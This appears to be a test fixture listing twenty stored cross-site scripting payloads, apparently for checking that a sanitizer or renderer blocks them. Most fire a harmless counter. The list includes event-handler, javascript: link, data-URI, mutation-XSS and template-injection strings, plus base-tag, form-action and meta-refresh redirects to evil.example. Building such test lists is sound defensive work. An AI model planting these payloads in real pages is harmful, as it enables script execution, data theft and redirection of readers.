const RUN = 'window.ran=(window.ran||0)+1'
/** Stored payloads that are meant to run in the reader's browser. */
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<a href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==)`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<math><mtext></p><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<svg></p><style><a title="</style><img src=x onerror='${RUN}'>">`,
  `"><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
]
